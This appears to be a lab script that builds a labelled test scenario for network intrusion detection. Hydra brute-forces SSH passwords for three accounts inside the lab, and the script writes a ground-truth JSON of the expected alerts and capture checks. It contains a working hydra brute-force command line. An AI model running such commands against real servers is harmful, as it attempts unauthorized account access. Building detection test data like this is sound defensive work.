#!/usr/bin/env bash
# bruteforce-ssh: hydra (4 tasks) guesses SSH passwords for three accounts from the attacker host:
# 12 common passwords each, 36 failures, no success.
# requires: hydra:hydra sshd:openssh-server
source "$(dirname "$0")/../lab.sh"
lab_start "$@"
lab_server ssh
lab_host attacker "$ATTACKER"
lab_wordlist 12 > "$LAB_DIR/passwords.txt"
printf '%s\n' alice bob admin > "$LAB_DIR/users.txt"

lab_capture_start
lab_exec attacker hydra -I -t 4 -w 5 -L "$LAB_DIR/users.txt" -P "$LAB_DIR/passwords.txt" "ssh://$SERVER" > "$LAB_DIR/hydra.log" 2>&1
lab_capture_stop
grep -q '0 valid password' "$LAB_DIR/hydra.log" || lab_die "unexpected hydra result: $(grep -v "password:" "$LAB_DIR/hydra.log")"
# The truth counts what sshd itself logged: hydra retries a guess when a connection breaks, so a
# run makes 36 to about 40 attempts.
failures=$(grep -c 'Failed password' "$LAB_DIR/sshd.log" || true)
[[ $failures -ge 36 ]] || lab_die "sshd logged $failures failed passwords, expected at least 36"

lab_truth <<JSON
{
  "scenario": "bruteforce-ssh",
  "description": "hydra brute-forces SSH passwords of alice, bob and admin: 36 distinct guesses (sshd logs each failure; retries make a few more), no success",
  "hosts": { "attacker": "$ATTACKER", "server": "$SERVER" },
  "attacker": "$ATTACKER",
  "victim": "$SERVER",
  "protocol": "ssh",
  "facts": { "attempts": $failures, "failedLogins": $failures, "distinctGuesses": 36, "successfulLogins": 0, "users": ["alice", "bob", "admin"] },
  "alerts": [
    { "type": "brute_force_failure", "src": "$ATTACKER", "dst": "$SERVER", "dstPort": 22 }
  ],
  "maxSeverity": null,
  "checks": [
    { "name": "SSH connections", "filter": "tcp.flags.syn == 1 && tcp.flags.ack == 0 && tcp.dstport == 22", "atLeast": 6 },
    { "name": "client banners", "filter": "tcp.dstport == 22 && ssh.protocol", "atLeast": 6 },
    { "name": "encrypted packets from the attacker", "filter": "ip.src == $ATTACKER && ssh && !ssh.protocol && !ssh.message_code", "atLeast": 36 }
  ]
}
JSON
